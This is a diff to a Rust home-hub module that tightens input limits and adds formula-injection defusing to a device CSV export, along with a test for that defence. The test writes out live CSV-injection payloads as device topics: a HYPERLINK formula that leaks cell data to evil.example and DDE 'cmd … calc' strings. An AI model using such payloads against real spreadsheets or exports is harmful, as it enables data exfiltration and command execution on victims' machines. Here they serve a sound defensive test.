@@ -1,13 +1,11 @@
 //! The review (what devices send, from the ledger), privacy choices, and export.
 
-use super::{Origin, now, parse_id};
+use super::limits::{self, DURATION_CHARS, REDACTION_PATH_BYTES};
+use super::{Origin, csv, now, parse_id};
 use crate::api::types::{
     Actor, ApiError, DeviceExport, DeviceReview, Event, ExportedSample, HomeReview, PrivacySettings, RedactionRequest, RetentionRequest,
 };
 use crate::hub::Hub;
-
-/// The longest field path a person may redact.
-const MAX_PATH: usize = 256;
 
 impl Hub {
     /// What the device sent in the last `since_ms` milliseconds.
@@ -31,8 +29,9 @@ impl Hub {
     /// once (the device's values and samples are pruned right away), recorded in the audit.
     pub fn set_retention(&self, id: &str, request: &RetentionRequest, origin: Origin) -> Result<PrivacySettings, ApiError> {
         let id = parse_id(id)?;
+        let retention = limits::retention(request.retention)?;
         let mut store = self.store();
-        let settings = store.set_retention(&id, request.category, request.retention, &Actor::Owner, origin, now())?;
+        let settings = store.set_retention(&id, request.category, retention, &Actor::Owner, origin, now())?;
         store.prune_device_ledger(&id, now())?;
         tracing::info!(%id, category = request.category.as_str(), retention = ?request.retention, origin, "retention changed");
         self.publish(Event::BrokerChanged { id });
@@ -43,8 +42,8 @@ impl Hub {
     /// delivered to anyone; applies to the next message.
     pub fn set_redaction(&self, id: &str, request: &RedactionRequest, origin: Origin) -> Result<PrivacySettings, ApiError> {
         let id = parse_id(id)?;
-        let path = request.path.trim();
-        if path.is_empty() || path.len() > MAX_PATH || path.starts_with('.') || path.ends_with('.') || path.contains("..") {
+        let path = limits::token("path", &request.path, REDACTION_PATH_BYTES)?;
+        if path.starts_with('.') || path.ends_with('.') || path.contains("..") {
             return Err(ApiError::bad_request(format!(
                 "`{path}` is not a field path: name the field as the review shows it, like `Wifi.SSId` or `lat`"
             )));
@@ -93,19 +92,20 @@ impl Hub {
         let id = parse_id(id)?;
         let store = self.reader();
         store.device(&id)?;
-        out(b"at,topic,bytes,qos,decision,reason,categories\n").map_err(write_error)?;
+        out(csv::row(&["at", "topic", "bytes", "qos", "decision", "reason", "categories"]).as_bytes()).map_err(write_error)?;
         store.export_messages(&id, |m| {
             let categories: Vec<&str> = m.categories.iter().map(|c| c.as_str()).collect();
-            let row = [
+            // Numbers are written by Hearth; every text cell goes through `csv::cell`, as the
+            // topic is the device's own and the other texts may one day be.
+            let line = csv::row(&[
                 m.at.to_string(),
-                csv_field(&m.topic),
+                csv::cell(&m.topic),
                 m.bytes.to_string(),
                 m.qos.to_string(),
-                m.decision,
-                m.reason.unwrap_or_default(),
-                categories.join(" "),
-            ];
-            let line = format!("{}\n", row.join(","));
+                csv::cell(&m.decision),
+                csv::cell(m.reason.as_deref().unwrap_or_default()),
+                csv::cell(&categories.join(" ")),
+            ]);
             out(line.as_bytes()).map_err(|e| hearth_store::StoreError::Interrupted(format!("the export was not taken: {e}")))
         })?;
         Ok(())
@@ -164,8 +164,16 @@ fn write_error(e: std::io::Error) -> ApiError {
 
 /// A duration as people write it: `90m`, `24h`, `7d`, `4w` (at most ten years).
 pub fn parse_duration(text: &str) -> Result<i64, ApiError> {
-    let bad = || ApiError::bad_request(format!("`{text}` is not a duration: write a number and a unit, like 90m, 24h, 7d or 4w"));
+    let bad = || {
+        ApiError::bad_request(format!(
+            "`{}` is not a duration: write a number and a unit, like 90m, 24h, 7d or 4w",
+            limits::quoted(text.trim())
+        ))
+    };
     let text = text.trim();
+    if text.len() > DURATION_CHARS {
+        return Err(bad());
+    }
     let unit = text.chars().last().ok_or_else(bad)?;
     let n: i64 = text[..text.len() - unit.len_utf8()].parse().map_err(|_| bad())?;
     let ms = match unit {
@@ -181,13 +189,54 @@ pub fn parse_duration(text: &str) -> Result<i64, ApiError> {
     }
 }
 
-/// A CSV field, quoted when it holds a comma, a quote or a line break (RFC 4180).
-fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_owned() }
-}
-
 #[cfg(test)]
 mod tests {
+    use crate::api::types::{Actor, Decision};
+
+    /// A device names its topics itself: one that publishes on topics a spreadsheet would run
+    /// as formulas gets them in the export as text, never as formulas.
+    #[test]
+    fn a_device_cannot_plant_formulas_in_the_csv_export() {
+        let (hub, _dir) = crate::testing::hub();
+        let id = crate::random::device_id();
+        let evil = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        {
+            let mut store = hub.store();
+            store.add_device(&id, "Evil plug", &Actor::Owner, "cli", 1).unwrap();
+            let entries: Vec<_> = evil
+                .iter()
+                .enumerate()
+                .map(|(i, topic)| hearth_store::LedgerEntry {
+                    at: 1_000 + i as i64,
+                    device_id: &id,
+                    topic,
+                    bytes: 2,
+                    qos: 0,
+                    decision: &Decision::Allow,
+                    payload: Some(b"{}"),
+                })
+                .collect();
+            store.record_messages(&entries).unwrap();
+        }
+        let csv = hub.export_csv(id.as_str()).unwrap();
+        // Rows are split on the row ends Hearth writes (`\n` then the next timestamp), since a
+        // quoted cell may hold a line break of its own.
+        let rows: Vec<&str> = csv.split("\n1").skip(1).collect();
+        assert_eq!(rows.len(), evil.len(), "{csv}");
+        for (row, topic) in rows.iter().zip(evil) {
+            let cell = row.split_once(',').map(|(_, rest)| rest).unwrap();
+            let expected = format!("\"'{}\",", topic.replace('"', "\"\""));
+            assert!(cell.starts_with(&expected), "the topic {topic:?} must be defused: {row:?}");
+        }
+    }
+
     #[test]
     fn durations_read_as_people_write_them() {
         assert_eq!(super::parse_duration("90m").unwrap(), 90 * 60_000);
@@ -196,12 +245,5 @@ mod tests {
         for bad in ["", "7", "d", "0d", "-1d", "7y", "99999999d", "1.5h"] {
             assert!(super::parse_duration(bad).is_err(), "{bad}");
         }
-    }
-
-    #[test]
-    fn csv_fields_with_commas_or_quotes_are_quoted() {
-        assert_eq!(super::csv_field("tele/plug/SENSOR"), "tele/plug/SENSOR");
-        assert_eq!(super::csv_field("a,b"), "\"a,b\"");
-        assert_eq!(super::csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
     }
 }
